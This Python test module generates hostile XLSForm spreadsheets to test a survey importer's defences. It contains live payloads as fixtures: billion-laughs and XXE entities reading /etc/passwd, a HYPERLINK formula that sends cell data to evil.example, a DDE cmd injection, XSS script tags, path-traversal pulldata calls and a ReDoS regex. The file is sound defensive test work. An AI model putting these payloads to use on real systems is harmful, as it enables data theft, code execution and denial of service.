"""Hostile workbooks: XLSForm in .xlsx and .xls."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

from openpyxl import Workbook

from tests.surveys.interchange.hostile.archive_files import repacked
from tests.surveys.interchange.hostile.files import EITHER, READ, REFUSED, HostileFile

MANY = 100_000
WIDGETS = Path(__file__).parents[1] / "xlsform" / "files" / "xlsform_pyxform_widgets.xls"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_DEEP = 10_000
Rows = list[tuple[object, ...]]
_HEADER = ("type", "name", "label", "relevant", "constraint", "calculation", "choice_filter", "appearance")


def workbook_files() -> Iterator[HostileFile]:
    """Yield hostile workbooks."""
    yield from _parts()
    yield from _forms()
    yield from _old_workbooks()


def _parts() -> Iterator[HostileFile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>',
        "an external entity": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    }
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml"):
        for what, doctype in doctypes.items():

            def change(_: zipfile.ZipFile, parts: dict[str, bytes], part: str = part, doctype: str = doctype) -> None:
                head, mark, rest = parts.get(part, b"<x/>").partition(b"?>")
                body = rest if mark else head
                parts[part] = b'<?xml version="1.0"?>' + doctype.encode() + body.replace(b"</", b"&l9;</", 1)

            yield HostileFile("xlsform", f"{what} in {part}", lambda change=change: repacked(change))

    def sheet(inner: bytes) -> bytes:
        name = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        content = b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (name, inner)
        return repacked(lambda _, parts: parts.update({"xl/worksheets/sheet1.xml": content}))

    cell = b'<c r="A%d" t="inlineStr"><is><t>type</t></is></c>'
    rows = b"".join(b'<row r="%d">%s</row>' % (n, cell % n) for n in (1, 1_048_576))
    yield HostileFile("xlsform", "a cell in the last row that there is", lambda: sheet(rows))
    yield HostileFile(
        "xlsform", "a row beyond all rows", lambda: sheet(b'<row r="1"/><row r="999999999999"><c r="A1"/></row>')
    )
    far = b'<row r="1"><c r="XFD1" t="inlineStr"><is><t>type</t></is></c></row>'
    yield HostileFile("xlsform", "a cell in the last column that there is", lambda: sheet(far))
    beyond = far.replace(b"XFD1", b"ZZZZZZZ1")
    yield HostileFile("xlsform", "a cell in a column beyond all columns", lambda: sheet(beyond))
    yield HostileFile(
        "xlsform",
        "a shared text that is not there",
        lambda: sheet(b'<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'),
    )
    yield HostileFile("xlsform", "10,000 elements within each other", lambda: sheet(b"<a>" * _DEEP + b"</a>" * _DEEP))
    yield HostileFile("xlsform", "a million elements", lambda: sheet(b"<row/>" * 1_000_000))
    wide = b'<dimension ref="A1:XFD1048576"/>'
    yield HostileFile("xlsform", "a sheet that says it is full", lambda: sheet(b"<row/>" + wide))


def _form(survey: Rows, choices: Rows | None = None, **sheets: Rows) -> bytes:
    book = Workbook()
    named = {"survey": [_HEADER, *survey], "choices": [("list_name", "name", "label"), *(choices or [])], **sheets}
    book.remove(book.active)
    for name, rows in named.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    result = io.BytesIO()
    book.save(result)
    return result.getvalue()


def _forms() -> Iterator[HostileFile]:
    yes_no: Rows = [("yn", "yes", "Ja"), ("yn", "no", "Nee")]
    first = ("select_one yn", "q1", "Vraag")

    def file(what: str, *survey: tuple[object, ...], outcome: str = EITHER, choices: Rows = yes_no) -> HostileFile:
        return HostileFile("xlsform", what, lambda: _form([first, *survey], choices), outcome)

    def on(relevant: str, name: str = "q2", **more: str) -> tuple[object, ...]:
        return ("text", name, "Vraag", relevant, more.get("constraint"), more.get("calculation"), more.get("filter"))

    formula = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
    yield file("formulas", ("text", "q2", formula), ("text", "q3", "=cmd|' /C calc'!A0"), outcome=READ)
    yield file("names that are there twice", first, outcome=EITHER)
    yield file("conditions in a circle", on("${q3} = 'a'"), on("${q2} = 'a'", "q3"))
    yield file("a condition in 10,000 brackets", on("(" * _DEEP + "${q1} = 'yes'" + ")" * _DEEP), outcome=READ)
    yield file("a condition of 30,000 characters", on(" or ".join(["${q1} = 'yes'"] * 1_700)), outcome=READ)
    yield file("a condition of signs", on("=!<>" * 7_000), outcome=READ)
    yield file("a condition of open places", on("${" * 15_000), outcome=READ)
    yield file("200 conditions of 10 KB", *(on(" or ".join(["${q1} = 'yes'"] * 500), f"n{i}") for i in range(199)))
    yield file("a regular expression that never ends", on("", constraint="regex(., '" + "(a+)+" * 1_000 + "$')"))
    yield file(
        "calculations of each other", ("calculate", "c1", "", "", "", "${c2}"), ("calculate", "c2", "", "", "", "${c1}")
    )
    yield file(
        "a file that includes itself", ("select_one_from_file file.xlsx", "q2", "Vraag"), ("xml-external", "file", "")
    )
    yield file(
        "data of this computer", on("pulldata('/etc/passwd', 'a', 'b', 'c') = 1", calculation="pulldata('../x')")
    )
    yield file(
        "2,000 groups within each other",
        *[("begin group", f"g{n}", "G") for n in range(2_000)],
        on(""),
        *[("end group",)] * 2_000,
    )
    yield file("groups that never end", *[("begin group", f"g{n}", "G") for n in range(2_000)], on(""))
    yield file("ends of groups that never began", *[("end group",)] * 2_000, on(""))
    yield file("4,900 questions", *(("text", f"n{i}", "Vraag") for i in range(4_900)), outcome=REFUSED)
    yield file("20,000 rows", *(("text", f"n{i}", "Vraag") for i in range(20_000)), outcome=REFUSED)
    yield file(
        "4,000 options", on(""), choices=[*yes_no, *(("yn", f"o{i}", "x") for i in range(4_000))], outcome=EITHER
    )
    yield file("an attack as a name", on("", '"><script>alert(1)</script>'))
    yield file(
        "an attack as an option", on(""), choices=[("yn", '"><script>', "<script>alert(1)</script>"), ("yn", "b", "x")]
    )
    yield file(
        "numbers of every sort", ("integer", 1e308, -1e-308), ("decimal", 10**300, True), ("range", 3, 4, 5, 6, 7, 8)
    )
    languages: Rows = [tuple(f"label::Taal{n} (x{chr(97 + n % 26)})" for n in range(300)), ("x",) * 300]
    yield HostileFile("xlsform", "300 languages", lambda: _form([first], yes_no, settings=languages), EITHER)
    yield HostileFile(
        "xlsform", "200 sheets", lambda: _form([first], yes_no, **{f"s{n}": [] for n in range(200)}), READ
    )


def _old_workbooks() -> Iterator[HostileFile]:
    made_up = random.Random(11)
    yield HostileFile("xlsform", "the head of an old workbook alone", lambda: _OLE)
    yield HostileFile("xlsform", "an old workbook of random bytes", lambda: _OLE + made_up.randbytes(100_000))
    yield HostileFile("xlsform", "an old workbook whose chain of sectors is a circle", _circle)
    yield HostileFile("xlsform", "an old workbook of zeros", lambda: _OLE + bytes(5_000_000))
    real = WIDGETS.read_bytes
    yield HostileFile("xlsform", "an old workbook that was cut", lambda: real()[:20_000], EITHER)
    for seed in range(8):
        made = lambda seed=seed: _changed(real(), seed)  # noqa: E731
        yield HostileFile("xlsform", f"an old workbook with bytes changed ({seed})", made, EITHER)


def _changed(data: bytes, seed: int) -> bytes:
    made_up, changed = random.Random(seed), bytearray(data)
    for _ in range(200):
        changed[made_up.randrange(len(changed))] = made_up.randrange(256)
    return bytes(changed)


def _circle() -> bytes:
    """Return a compound file whose allocation table, in its sector 0, sends sector 1 (the directory) to itself."""
    none, free, ends, table_sector = 0, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = _OLE + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<9L", none, 1, 1, none, 4096, ends, none, ends, none)
    header += struct.pack("<109L", 0, *[free] * 108)
    table = struct.pack("<128L", table_sector, 1, *[1] * 126)
    return header + table + bytes(512) * 10
